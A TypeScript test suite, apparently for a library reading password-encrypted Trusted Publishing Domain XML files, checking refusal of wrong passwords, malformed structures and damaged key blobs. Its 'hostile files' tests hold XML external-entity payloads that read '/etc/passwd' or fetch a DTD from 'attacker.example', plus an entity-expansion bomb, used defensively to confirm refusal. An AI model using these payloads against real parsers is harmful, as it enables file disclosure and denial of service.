import assert from 'node:assert/strict'
import { createPublicKey, randomBytes } from 'node:crypto'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { suite, test } from 'node:test'
import * as fc from 'fast-check'
import { RightsError, writePrivateKeyBlob, type ErrorCode } from '@sealward/xrml'
import { writeInfo } from './domain-info.ts'
import { readEnvelope, defaultTpdLimits, writeEnvelope } from './envelope.ts'
import { inventCluster, newRsaKey } from './invented-cluster.ts'
import { decryptTpdField, encryptTpdField } from './password-encryption.ts'
import { readTpd } from './read-tpd.ts'
import { writeTpd } from './write-tpd.ts'

const password = 'correct horse battery staple'
const cluster = await inventCluster({ mode: 1 })
const file = writeTpd(cluster.content, { password, derivation: 'A' })
const envelope = readEnvelope(file, defaultTpdLimits)
const infoText = Buffer.from(writeInfo(cluster.content)).toString('utf8')

function withInfo(text: string): Uint8Array {
  const info = encryptTpdField(Buffer.from(text, 'utf8'), password, 'A')
  return writeEnvelope({ info, keyData: envelope.keyData })
}

function withKeyField(plain: Uint8Array): Uint8Array {
  return writeEnvelope({ info: envelope.info, keyData: encryptTpdField(plain, password, 'A') })
}

const opens = (candidate: Uint8Array) => readTpd({ file: candidate, password })

function refusal(candidate: Uint8Array, candidatePassword = password): RightsError {
  try {
    readTpd({ file: candidate, password: candidatePassword })
  } catch (error) {
    assert(error instanceof RightsError, String(error))
    return error
  }
  throw new assert.AssertionError({ message: 'was not refused' })
}

function refusalCode(candidate: Uint8Array): ErrorCode {
  return refusal(candidate).code
}

function passwordsThatUnpad(field: Uint8Array, count: number): readonly string[] {
  const found: string[] = []
  for (let attempt = 0; found.length < count; attempt++) {
    const candidate = `guess ${attempt}`
    if (decryptTpdField(field, candidate, 'A') !== undefined) found.push(candidate)
  }
  return found
}

const outer = (inner: string, attributes = '') =>
  Buffer.from(
    `<ArrayOfAnyType xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"${attributes}>${inner}</ArrayOfAnyType>`,
  )
const item = (inner: string) => `<anyType xsi:type="EncryptedTrustedDocDomain">${inner}</anyType>`
const infoField = '<m_strTrustedDocDomainInfo>AAAAAAAAAAAAAAAAAAAAAA==</m_strTrustedDocDomainInfo>'

const vectors = join(
  process.env['SEALWARD_VECTORS'] ?? join(import.meta.dirname, '../../../../../shared/vectors'),
  'tpd',
)
const skip = !existsSync(vectors) && process.env['CI'] !== 'true' && 'the published vectors are not on this machine'

suite('files of an independent serializer', { skip }, () => {
  for (const [name, derivation] of [
    ['tpd-new.xml', 'A'],
    ['tpd-old.xml', 'B'],
  ] as const) {
    test(`${name} opens to the known modulus`, () => {
      const tpd = readTpd({ file: readFileSync(join(vectors, name)), password: 'P@ssw\u00f6rd-\u20ac1' })
      assert(tpd.privateKey)
      const { n } = createPublicKey(tpd.privateKey).export({ format: 'jwk' })
      const known = readFileSync(join(vectors, 'pub.txt'), 'latin1').trim()
      assert.equal(Buffer.from(n ?? '', 'base64url').toString('base64'), known)
      assert.deepEqual(tpd.derivations, { info: derivation, key: derivation })
      assert.equal(tpd.id, '{7d0b4c5e-0f3f-4a6b-9b5b-0f0c5c7d9a11}')
      assert.equal(tpd.cspType, 24)
      assert.deepEqual(tpd.licensorChain, ['<XrML>a&b</XrML>', '<XrML>CA</XrML>'])
      assert.deepEqual(tpd.templates, ['<XrML>t</XrML>'])
    })
  }
})

suite('variants of the form', () => {
  test('each field has its own derivation', () => {
    const older = readEnvelope(writeTpd(cluster.content, { password, derivation: 'B' }), defaultTpdLimits)
    const mixed = opens(writeEnvelope({ info: envelope.info, keyData: older.keyData }))
    assert.deepEqual(mixed.derivations, { info: 'A', key: 'B' })
    const reverse = opens(writeEnvelope({ info: older.info, keyData: envelope.keyData }))
    assert.deepEqual(reverse.derivations, { info: 'B', key: 'A' })
  })

  test('a key blob behind a strong-name header is found', () => {
    const blob = writePrivateKeyBlob(cluster.privateKey)
    const tpd = opens(withKeyField(Buffer.concat([Buffer.alloc(12, 4), blob])))
    assert.equal(tpd.blobPrefixed, true)
    assert(tpd.privateKey?.equals(cluster.privateKey))
  })

  test('the prefixes of the instance namespace are free, and may be declared in any order or place', () => {
    const spelled = Buffer.from(file).toString('utf8')
    const instance = 'http://www.w3.org/2001/XMLSchema-instance'
    const variants = [
      spelled.replace(/ xmlns:xsi="[^"]*" xmlns:xsd="[^"]*"/, ` xmlns:xsd="urn:x" xmlns:xsi='${instance}'`),
      spelled.replaceAll('xsi:', 'p1:').replaceAll(':xsi', ':p1'),
      spelled.replace(/ xmlns:xsd="[^"]*"/, ''),
      spelled.replace(/ xmlns:xsi="[^"]*"/, '').replace('<anyType ', `<anyType xmlns:xsi="${instance}" `),
      spelled.replace('xsi:type="', 'xmlns:q="" xsi:type="').replace(' xmlns:q=""', ''),
      spelled.replace('xsi:type="', 'xmlns:q="urn:q" xsi:type="q:'),
      spelled.replace('<?xml version="1.0"?>', ''),
      `\ufeff${spelled}`,
    ]
    for (const variant of variants) assert.equal(opens(Buffer.from(variant, 'utf8')).id, cluster.content.id)
    assert.equal(opens(Buffer.from(`\ufeff${spelled}`, 'utf16le')).id, cluster.content.id)
  })

  test('base64 may be broken into lines, and members may stand in any order among unknown ones', () => {
    const spelled = Buffer.from(file).toString('utf8')
    const fields = /(<m_strTrustedDocDomainInfo>.*<\/m_strTrustedDocDomainInfo>)(<m_strKeyData>.*<\/m_strKeyData>)/
    const variant = spelled
      .replace(fields, '$2<m_futureMember>x</m_futureMember>$1')
      .replaceAll(/[A-Za-z0-9+/]{76}/g, '$&&#xD;\n  ')
    assert(opens(Buffer.from(variant, 'utf8')).privateKey)
  })

  test('members may be absent or null where they are optional', () => {
    const bare = infoText
      .replace('<strCSPName />', '<strCSPName xsi:nil="true" />')
      .replace(/<nKeyNumber>.*<\/nKeyNumber>/, '')
      .replace(/<m_astrRightsTemplates>.*<\/m_astrRightsTemplates>/s, '')
    const tpd = opens(withInfo(bare))
    assert.equal(tpd.cspName, undefined)
    assert.equal(tpd.keyContainerName, undefined)
    assert.equal(tpd.keyNumber, 0)
    assert.deepEqual(tpd.templates, [])
    const nulls = '<m_astrRightsTemplates><string xsi:nil="1" /><string /></m_astrRightsTemplates>'
    assert.deepEqual(opens(withInfo(infoText.replace(/<m_astrRightsTemplates>.*s>/s, nulls))).templates, [])
  })

  test('the private key inside the description is ignored', () => {
    const decoy = infoText.replace('</m_ttdki>', '<strEncryptedPrivateKey>AAAA</strEncryptedPrivateKey></m_ttdki>')
    assert(opens(withInfo(decoy)).privateKey?.equals(cluster.privateKey))
  })

  test('a file is keyless if the key field is empty, null or absent', () => {
    const spelled = Buffer.from(writeEnvelope({ info: envelope.info, keyData: undefined })).toString('utf8')
    assert.match(spelled, /<m_strKeyData \/>/)
    for (const field of [
      '<m_strKeyData />',
      '<m_strKeyData xsi:nil="true" />',
      '<m_strKeyData>\n</m_strKeyData>',
      '',
    ]) {
      const tpd = opens(Buffer.from(spelled.replace('<m_strKeyData />', field), 'utf8'))
      assert.equal(tpd.privateKey, undefined)
      assert.equal(tpd.derivations.key, undefined)
    }
  })
})

suite('a wrong password', () => {
  test('is refused with the same code and text as damaged data', () => {
    const wrong = refusal(file, 'wrong')
    assert.equal(wrong.code, 'tpd-not-opened')
    const damagedInfo = Buffer.from(envelope.info)
    damagedInfo.fill(0x17, 0, 32)
    const damagedKey = Buffer.from(envelope.keyData ?? [])
    damagedKey.fill(0x17, 40, 80)
    for (const fields of [
      { info: damagedInfo, keyData: envelope.keyData },
      { info: envelope.info, keyData: damagedKey },
      { info: damagedInfo, keyData: damagedKey },
    ]) {
      const damaged = refusal(writeEnvelope(fields))
      assert.equal(damaged.code, wrong.code)
      assert.equal(damaged.message, wrong.message)
    }
  })

  test('is refused even if the padding of every field happens to fit', () => {
    const fitting = passwordsThatUnpad(envelope.info, 3)
    for (const candidate of fitting) assert.equal(refusal(file, candidate).code, 'tpd-not-opened')
    assert(envelope.keyData)
    // A file whose description opens with the password and whose key field merely unpads with it.
    const [accident] = passwordsThatUnpad(envelope.keyData, 1)
    assert(accident !== undefined)
    const info = encryptTpdField(Buffer.from(infoText, 'utf8'), accident, 'A')
    assert.equal(refusal(writeEnvelope({ info, keyData: envelope.keyData }), accident).code, 'tpd-not-opened')
  })

  test('leaves no value of the file in the report, only names and lengths', () => {
    const { detail } = refusal(file, 'wrong')
    const lengths = [envelope.info, envelope.keyData ?? []].map((field) => Math.ceil(field.length / 3) * 4)
    assert.equal(
      detail,
      `structure: ArrayOfAnyType(anyType:EncryptedTrustedDocDomain(m_strTrustedDocDomainInfo ${lengths[0]}, m_strKeyData ${lengths[1]}))`,
    )
  })
})

suite('hostile files', () => {
  test('another structure is refused by its own code', () => {
    const wrong = [
      Buffer.from('<TrustedPublishingDomain />'),
      outer(''),
      outer(item(infoField) + item(infoField)),
      outer('<anyType xsi:type="ArrayOfString"></anyType>'),
      outer(`<anyType>${infoField}</anyType>`),
      outer(`<anyType xsi:type="q:EncryptedTrustedDocDomain">${infoField}</anyType>`),
      outer(`<other xsi:type="EncryptedTrustedDocDomain">${infoField}</other>`),
      outer(item('')),
      outer(item('<m_strTrustedDocDomainInfo />')),
      outer(item('<m_strTrustedDocDomainInfo>!!!!</m_strTrustedDocDomainInfo>')),
      outer(item('<m_strTrustedDocDomainInfo>AAAAAAAAAAAAAAAAAAAAAB==</m_strTrustedDocDomainInfo>')),
      outer(item(infoField + infoField)),
      outer(item(`${infoField}<m_strKeyData>not base64</m_strKeyData>`)),
      outer(item(infoField), ' xmlns="urn:other"'),
    ]
    for (const candidate of wrong) assert.equal(refusalCode(candidate), 'tpd-malformed', candidate.toString())
  })

  test('a description without what it must have is refused by its own code', () => {
    const without = [
      [/<m_ttdki>.*<\/m_ttdki>/s, ''],
      [/<strID>.*<\/strID>/, '<strID> </strID>'],
      [/<strIDType>.*<\/strIDType>/, '<strIDType xsi:nil="true" />'],
      [/<nCSPType>.*<\/nCSPType>/, '<nCSPType>0x18</nCSPType>'],
      [/<nCSPType>.*<\/nCSPType>/, '<nCSPType>99999999999999999999</nCSPType>'],
      [/<m_strLicensorCertChain>.*<\/m_strLicensorCertChain>/s, ''],
      [
        /<m_strLicensorCertChain>.*<\/m_strLicensorCertChain>/s,
        '<m_strLicensorCertChain><string /></m_strLicensorCertChain>',
      ],
      ['xsi:type="TrustedDocDomain"', 'xsi:type="EncryptedTrustedDocDomain"'],
    ] as const
    for (const [found, put] of without) {
      const changed = infoText.replace(found, put)
      assert.notEqual(changed, infoText)
      assert.equal(refusalCode(withInfo(changed)), 'tpd-malformed', String(found))
    }
  })

  test('document types and external entities are refused outside and inside', () => {
    const payloads = [
      '<!DOCTYPE x>',
      '<!doctype x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ]
    for (const payload of payloads) {
      const spelled = Buffer.from(file).toString('utf8').replace('<ArrayOfAnyType', `${payload}<ArrayOfAnyType`)
      assert.equal(refusalCode(Buffer.from(spelled)), 'xml-dtd-refused')
      assert.equal(
        refusalCode(withInfo(infoText.replace('<ArrayOfAnyType', `${payload}<ArrayOfAnyType`))),
        'tpd-not-opened',
      )
    }
  })

  test('a file above the size limit is refused before it is read', () => {
    assert.equal(refusalCode(new Uint8Array(defaultTpdLimits.fileBytes + 1)), 'xml-limit-exceeded')
    assert.throws(() => readTpd({ file, password, limits: { fileBytes: file.length - 1 } }), {
      code: 'xml-limit-exceeded',
    })
    assert(readTpd({ file, password, limits: { fileBytes: file.length } }))
  })

  test('deep, wide and long names are refused without being repeated at length', () => {
    const name = 'n'.repeat(5000)
    assert((refusal(Buffer.from(`<${name} />`)).detail ?? '').length < 200)
    assert((refusal(outer(item('<a/>'.repeat(5000)))).detail ?? '').length < 1000)
    assert.equal(refusalCode(outer('<a>'.repeat(500) + '</a>'.repeat(500))), 'xml-limit-exceeded')
  })

  test('a truncated file is refused at every length', () => {
    for (let length = 0; length < file.length; length += length < 400 || length > file.length - 200 ? 1 : 37) {
      assert(refusal(file.subarray(0, length)), `length ${length}`)
    }
  })

  test('a key field that is no sound blob is refused', () => {
    const blob = writePrivateKeyBlob(cluster.privateKey)
    const patched = (offset: number, ...bytes: readonly number[]) => {
      const copy = Buffer.from(blob)
      copy.set(bytes, offset)
      return copy
    }
    const flawed = {
      'public key': patched(0, 6),
      'even exponent': patched(16, 0, 0, 1, 0),
      'small exponent': patched(16, 3, 0, 0, 0),
      'other modulus': patched(20, 0x01),
      'huge size': patched(12, 0xff, 0xff, 0xff, 0xff),
      'odd size': patched(12, 0x01, 0x04, 0, 0),
      truncated: blob.subarray(0, blob.length - 1),
      'header alone': blob.subarray(0, 20),
      empty: new Uint8Array(0),
      noise: randomBytes(596),
    }
    for (const [flaw, plain] of Object.entries(flawed))
      assert.equal(refusalCode(withKeyField(plain)), 'tpd-not-opened', flaw)
    const smallExponent = Buffer.from(writePrivateKeyBlob(newRsaKey(1024, 3)))
    smallExponent.writeUInt32LE(3, 16)
    assert.equal(refusalCode(withKeyField(smallExponent)), 'tpd-not-opened')
  })

  test('changed files throw nothing but refusals', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat({ max: file.length - 1 }), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 4,
        }),
        (changes) => {
          const changed = Buffer.from(file)
          for (const [at, value] of changes) changed[at] = value
          try {
            readTpd({ file: changed, password })
          } catch (error) {
            assert(error instanceof RightsError, String(error))
          }
        },
      ),
      { numRuns: 300 },
    )
  })
})
